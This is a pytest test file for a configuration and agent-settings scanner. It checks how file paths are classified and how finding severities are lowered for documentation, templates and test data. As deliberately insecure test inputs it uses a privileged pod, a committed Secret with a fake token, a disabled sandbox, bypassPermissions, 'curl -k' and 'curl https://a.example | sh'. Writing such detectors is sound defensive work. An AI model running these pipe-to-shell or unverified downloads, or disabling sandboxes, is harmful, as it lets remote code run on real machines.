"""What an input is used for, and how findings count there."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner import contexts
from scanner.contexts import Context, context_of, is_loaded
from scanner.finished_scan import Scan
from scanner.model import Outcome, Severity
from scanner.scan import Options, scan

POD = """\
apiVersion: v1
kind: Pod
metadata: {name: a}
spec: {containers: [{name: a, image: a:1, securityContext: {privileged: true}}]}
"""
TOKEN = "ghp_" + "q7Zt2LmXw9RkVb4NcYpH8sDfGj3aUe6TiKo5"
SECRET = f"apiVersion: v1\nkind: Secret\nmetadata: {{name: a}}\nstringData: {{token: {TOKEN}}}\n"
PRIVILEGED, COMMITTED = "kubernetes.container-not-privileged", "kubernetes.secret-string-data-not-committed"


def fenced(text: str) -> str:
    return f"# How to\n\n```yaml\n{text}```\n"


def scanned(folder: Path, path: str, text: str, context: Context | None = None) -> Scan:
    file = folder / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    return scan([str(folder)], Options(context=context, cache_folder=None))


def severity(found: Scan, rule: str) -> Severity:
    return next(each.severity for each in found.findings if each.rule == rule and each.outcome is Outcome.FAIL)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("deploy/app.yaml", "live"),
        (".claude/settings.json", "live"),
        (".claude/settings.local.json", "local"),
        ("compose.override.yaml", "local"),
        ("docs/swarm.md", "documentation"),
        ("README", "documentation"),
        ("notes.txt", "documentation"),
        ("examples/app.yaml", "documentation"),
        (".mcp.json.example", "template"),
        ("settings.sample.json", "template"),
        (".claude/settings copy.json", "template"),
        (".claude/settings-team.json", "template"),
        ("sample.yaml", "live"),
        ("tests/fixtures/app.yaml", "fixture"),
        ("cli/compose/loader/testdata/compose.yaml", "fixture"),
        ("lib/site-packages/pkg/compose.yaml", "fixture"),
        ("web/node_modules/pkg/docs/app.yaml", "fixture"),
        ("vendor/k8s.io/apimachinery/pod.yaml", "fixture"),
        ("vendor/katalog/pod.yaml", "live"),
        ("ci/kubetest/pod.yaml", "fixture"),
        ("contest/latest/pod.yaml", "live"),
        ("CLAUDE.md", "live"),
        ("pkg/AGENTS.md", "live"),
        (".claude/agents/reviewer.md", "live"),
        (".github/agents/docs.agent.md", "live"),
        ("plugin/skills/pdf/SKILL.md", "live"),
        ("docs/.claude/settings.json", "live"),
        ("examples/demo/.mcp.json", "live"),
    ],
)
def test_the_path_decides_the_context(path: str, expected: str) -> None:
    assert context_of(path) is Context(expected)


@pytest.mark.parametrize(
    ("path", "values", "expected"),
    [
        ("deploy/secret.yaml", "{password: kq-s3cr3t-2024}", "medium"),
        ("tests/e2e/secret.yaml", "{password: kq-s3cr3t-2024}", "low"),
        ("docs/howto.md", "{password: kq-s3cr3t-2024}", "low"),
        ("docs/secret.yaml", "{password: kq-s3cr3t-2024}", "medium"),
        ("tests/e2e/secret.yaml", f"{{token: {TOKEN}}}", "medium"),
        ("deploy/secret.yaml", "{password: test}", "medium"),
        ("docs/howto.md", "{password: test}", ""),
        ("docs/howto.md", f"{{password: test, token: {TOKEN}}}", "medium"),
        ("deploy/secret.yaml", f"{{token: {TOKEN[:-1]}/}}", ""),
    ],
)
def test_what_only_a_name_makes_a_credential_counts_lower_in_examples_and_tests(
    path: str, values: str, expected: str, tmp_path: Path
) -> None:
    text = f"apiVersion: v1\nkind: Secret\nmetadata: {{name: a}}\nstringData: {values}\n"
    found = scanned(tmp_path, path, fenced(text) if path.endswith(".md") else text)
    told = [each.severity for each in found.findings if each.rule == COMMITTED and each.outcome is Outcome.FAIL]
    assert told == ([Severity(expected)] if expected else [])


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("deploy/app.yaml", POD, Severity.CRITICAL),
        ("docs/app.yaml", POD, Severity.CRITICAL),
        ("deploy/app.yaml", POD.replace("{name: a}", "{name: <APP-NAME>}"), Severity.HIGH),
        ("tests/app.yaml", POD, Severity.CRITICAL),
        ("pkg/testdata/app.yaml", POD, Severity.HIGH),
        ("lib/site-packages/pkg/app.yaml", POD, Severity.HIGH),
        ("docs/app.md", fenced(POD), Severity.HIGH),
        ("AGENTS.md", fenced(POD), Severity.CRITICAL),
        (".claude/agents/a.md", fenced(POD), Severity.HIGH),
        (".claude/skills/a/SKILL.md", fenced(POD), Severity.HIGH),
        (".claude/skills/a/pod.yaml", POD, Severity.CRITICAL),
        ("app.example.yaml", POD, Severity.HIGH),
    ],
)
def test_only_what_no_tool_loads_from_its_place_counts_lower(
    path: str, text: str, expected: Severity, tmp_path: Path
) -> None:
    assert severity(scanned(tmp_path, path, text), PRIVILEGED) is expected


SKILL = "---\nname: a\ndescription: A\n---\n\n```sh\n{}\n```\n"


@pytest.mark.parametrize(
    ("rule", "path", "text", "expected"),
    [
        ("command-certificates-verified", "SKILL.md", SKILL.format("curl -k https://127.0.0.1/x"), Severity.MEDIUM),
        ("command-certificates-verified", "SKILL.md", SKILL.format("curl -k https://a.example/x"), Severity.HIGH),
        ("invoked-downloads-not-executed", "SKILL.md", SKILL.format("curl https://a.example | sh"), Severity.MEDIUM),
        ("invoked-downloads-not-executed", "SKILL.md", SKILL.format("curl http://a.example | sh"), Severity.HIGH),
        ("settings-sandbox-kept", ".claude/settings.json", '{"sandbox": {"enabled": false}}', Severity.MEDIUM),
        ("settings-servers-named", ".claude/settings.json", '{"enableAllProjectMcpServers": true}', Severity.MEDIUM),
        ("settings-servers-named", "dotfiles/settings.json", '{"enableAllProjectMcpServers": true}', Severity.HIGH),
        ("settings-keys-known", ".claude/settings.json", '{"model": "opus", "editMode": "vim"}', Severity.LOW),
        ("settings-keys-known", ".claude/settings.json", '{"permissions": {"denied": ["Read"]}}', Severity.MEDIUM),
    ],
)
def test_what_a_person_is_asked_or_has_little_effect_counts_lower(
    rule: str, path: str, text: str, expected: Severity, tmp_path: Path
) -> None:
    assert severity(scanned(tmp_path, path, text), f"agents.{rule}") is expected


@pytest.mark.parametrize(("name", "expected"), [("runner", Severity.CRITICAL), ("{{LAYER}}-runner", Severity.HIGH)])
def test_an_agent_whose_name_is_to_be_written_is_a_template(name: str, expected: Severity, tmp_path: Path) -> None:
    text = f'---\nname: "{name}"\ndescription: Runs\ntools: Read\npermissionMode: bypassPermissions\n---\n'
    assert severity(scanned(tmp_path, ".claude/agents/a.md", text), "agents.agent-mode-asks") is expected


def test_credentials_count_everywhere(tmp_path: Path) -> None:
    live = severity(scanned(tmp_path / "a", "app.yaml", SECRET), COMMITTED)
    assert severity(scanned(tmp_path / "b", "app.md", fenced(SECRET)), COMMITTED) is live


@pytest.mark.parametrize(
    ("context", "expected"),
    [(Context.LIVE, Severity.CRITICAL), (Context.FIXTURE, Severity.CRITICAL), (Context.TEMPLATE, Severity.HIGH)],
)
def test_a_context_that_is_given_counts_for_all_inputs(context: Context, expected: Severity, tmp_path: Path) -> None:
    found = scanned(tmp_path, "app.md", fenced(POD), context)
    assert severity(found, PRIVILEGED) is expected
    assert {item.context for item in found.inputs} == {context}


_PARTS = """a b.yaml docs Doc tests test .claude agents skills .github prompts copilot-instructions.md README readme.md
mcp.json x.local.json .mcp.json CLAUDE.md x.example.yaml x.tpl compose.override.yml foo.agent.md x.md .cursor
.local.x node_modules test-cases
X.EXAMPLE.YML .example local a.local.b.c Readmex.yaml x.dist. txt settings.local.json.tmpl x.\u017fample \u00e9.yaml"""


@given(st.lists(st.sampled_from([*_PARTS.split(), "", "a.md\n", "README\n", "docs\n"]), min_size=1, max_size=4))
def test_what_is_known_without_a_search_is_what_the_searches_find(parts: list[str]) -> None:
    path = "/".join(parts)
    assert context_of(path) == contexts._told(path)
    lower = (contexts._is_document, contexts._is_template, contexts._is_test_data)
    assert is_loaded(path) == (not any(each(path) for each in lower))
